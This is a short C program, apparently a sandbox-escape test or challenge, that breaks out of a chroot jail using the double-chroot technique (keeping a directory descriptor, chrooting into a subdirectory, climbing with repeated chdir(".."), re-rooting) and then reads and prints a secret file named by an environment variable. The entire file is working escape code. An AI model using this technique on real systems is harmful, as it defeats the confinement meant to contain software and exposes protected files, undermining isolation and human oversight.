/* Climbs out by changing the root twice. */
#include "escape.h"

int main(void) {
    char line[256];
    int outside = open(".", O_RDONLY);
    mkdir("inner", 0755);
    if (chroot("inner") == 0) {
        fchdir(outside);
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    FILE *secret = fopen(given("ESC_SECRET"), "r");
    if (secret && fgets(line, sizeof line, secret)) printf("%s\n", line);
}
